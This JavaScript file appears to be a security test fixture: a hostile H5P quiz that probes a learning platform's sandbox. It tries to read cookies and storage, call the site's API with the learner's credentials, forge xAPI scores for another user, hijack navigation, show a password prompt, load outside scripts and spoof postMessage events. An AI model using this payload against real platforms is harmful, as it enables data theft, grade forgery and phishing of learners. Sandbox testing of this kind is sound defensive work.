// A content type as an attacker would write it. It keeps a log of what it tried and got.
var H5P = H5P || {};
H5P.Quiz = function () {
  H5P.EventDispatcher.call(this);
  const SITE = "@SITE@", OTHER_IRI = "@OTHER_IRI@", OTHER = "@OTHER@";
  const log = {};
  const shown = document.createElement("output");
  const siblings = Array.from({ length: parent.frames.length }, (_, place) => parent.frames[place])
    .filter((frame) => frame !== window);

  async function attempt(name, what) {
    try {
      const got = await Promise.race([
        what(),
        new Promise((resolve) => setTimeout(() => resolve("no answer"), 1500)),
      ]);
      log[name] = String(got);
    } catch (error) {
      log[name] = "denied";
    }
    shown.textContent = JSON.stringify(log);
  }

  const loaded = (tag, address) => new Promise((resolve, reject) => {
    const element = document.createElement(tag);
    element.onload = () => resolve("loaded");
    element.onerror = () => reject(new Error());
    element.src = address;
    document.body.append(element);
  });

  const submitted = (target) => new Promise((resolve) => {
    const form = document.createElement("form");
    form.method = "post";
    form.action = SITE + "/api/v1/xapi/statements";
    form.target = target;
    document.body.append(form);
    form.submit();
    setTimeout(() => resolve("still here"), 500);
  });

  const forged = (iri) => ({
    id: "9a4f5b2e-0000-4000-8000-000000000001",
    actor: { account: { homePage: SITE, name: OTHER } },
    verb: { id: "http://adlnet.gov/expapi/verbs/answered" },
    object: { id: iri, definition: {} },
    result: { score: { scaled: 1, raw: 1, min: 0, max: 1 }, success: true, completion: true },
  });
  const start = { source: "lms-h5p", type: "start", state: "{}", language: "en", title: "stolen",
    iri: OTHER_IRI };

  this.attach = async function ($container) {
    shown.id = "log";
    $container.append(shown);
    // What the browser keeps of the learner.
    await attempt("origin", () => self.origin);
    await attempt("cookie", () => document.cookie);
    await attempt("set a cookie", () => { document.cookie = "a=b"; return document.cookie; });
    await attempt("stored by the site", () => JSON.stringify({ ...localStorage }));
    await attempt("indexedDB", () => new Promise((resolve, reject) => {
      const open = indexedDB.open("x");
      open.onsuccess = () => resolve("opened");
      open.onerror = () => reject(new Error());
    }));
    await attempt("caches", () => caches.keys());
    await attempt("service worker", () => navigator.serviceWorker.register(SITE + "/sw.js"));
    // The page around it, and the other exercise beside it.
    await attempt("parent document", () => parent.document.title);
    await attempt("parent storage", () => parent.localStorage.length);
    await attempt("parent address", () => parent.location.href);
    await attempt("frame element", () => String(window.frameElement));
    await attempt("siblings", () => siblings.length > 0);
    await attempt("sibling document", () => siblings.map((frame) => frame.document.title));
    await attempt("navigate sibling", () => {
      for (const frame of siblings) frame.location = "about:blank";
      return "moved";
    });
    await attempt("top navigation", () => { top.location = SITE + "/logout"; return "moved"; });
    await attempt("top by link", () => {
      const link = document.createElement("a");
      link.href = SITE + "/?stolen";
      link.target = "_top";
      document.body.append(link);
      link.click();
      return "clicked";
    });
    await attempt("popup", () => String(window.open(SITE + "/admin/")));
    await attempt("dialog", () => String(window.confirm("Your password?")));
    await attempt("form to the top", () => submitted("_top"));
    await attempt("form to itself", () => submitted("_self"));
    // The API, in the learner's name.
    await attempt("api", async () => (await fetch(SITE + "/api/v1/me/", { credentials: "include" })).status);
    await attempt("api post", async () => (await fetch(SITE + "/api/v1/xapi/statements", {
      method: "POST", credentials: "include", mode: "no-cors", body: JSON.stringify([forged(OTHER_IRI)]),
    })).type);
    await attempt("xhr", () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.withCredentials = true;
      request.onload = () => resolve(request.status);
      request.onerror = () => reject(new Error());
      request.open("GET", SITE + "/api/v1/me/");
      request.send();
    }));
    await attempt("image", () => loaded("img", SITE + "/api/v1/me/?stolen"));
    await attempt("frame", () => {
      const frame = document.createElement("iframe");
      frame.src = SITE + "/";
      document.body.append(frame);
      return new Promise((resolve, reject) => {
        frame.onload = () => {
          try { resolve(frame.contentDocument.title); } catch (error) { reject(error); }
          if (frame.contentDocument === null) reject(new Error());
        };
      });
    });
    await attempt("event stream", () => new Promise((resolve, reject) => {
      const stream = new EventSource(SITE + "/api/v1/me/");
      stream.onopen = () => resolve("open");
      stream.onerror = () => reject(new Error());
    }));
    await attempt("web socket", () => new Promise((resolve, reject) => {
      const socket = new WebSocket(SITE.replace("http", "ws"));
      socket.onopen = () => resolve("open");
      socket.onerror = () => reject(new Error());
    }));
    // Program from elsewhere, or made up on the spot.
    await attempt("script of the site", () => loaded("script", SITE + "/static/x.js"));
    await attempt("script of another host", () => loaded("script", "https://example.com/x.js"));
    await attempt("uploaded media as script", () => loaded("script", "@CONTENT@/h5p/content/x/content/x.js"));
    await attempt("eval", () => eval("1 + 1"));
    await attempt("inline script", () => {
      const script = document.createElement("script");
      script.textContent = "window.inlineRan = true";
      document.body.append(script);
      return String(window.inlineRan);
    });
    await attempt("worker", () => new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      worker.onmessage = () => resolve("worked");
      worker.onerror = () => reject(new Error());
    }));
    // Powers of the device.
    await attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
    await attempt("clipboard", () => navigator.clipboard.readText());
    await attempt("place", () => new Promise((resolve, reject) => {
      navigator.geolocation.getCurrentPosition(resolve, reject);
    }));
    // Messages: as the player for another activity and in another's name, as the site to the
    // exercise beside it, and in no form at all.
    for (const iri of [OTHER_IRI, OTHER_IRI + "#x", SITE + "/admin/", "javascript:alert(1)"]) {
      parent.postMessage({ source: "lms-h5p", type: "statement", statement: forged(iri) }, "*");
    }
    for (const nonsense of [start, { source: "lms-h5p", type: "statement", statement: { verb: 7 } },
      { source: "lms-h5p", type: "signOut" }, { source: "other", type: "statement" }, null, "text"]) {
      parent.postMessage(nonsense, "*");
      for (const frame of siblings) frame.postMessage(nonsense, "*");
    }
    shown.dataset.done = "yes";
  };
};
H5P.Quiz.prototype = Object.create(H5P.EventDispatcher.prototype);
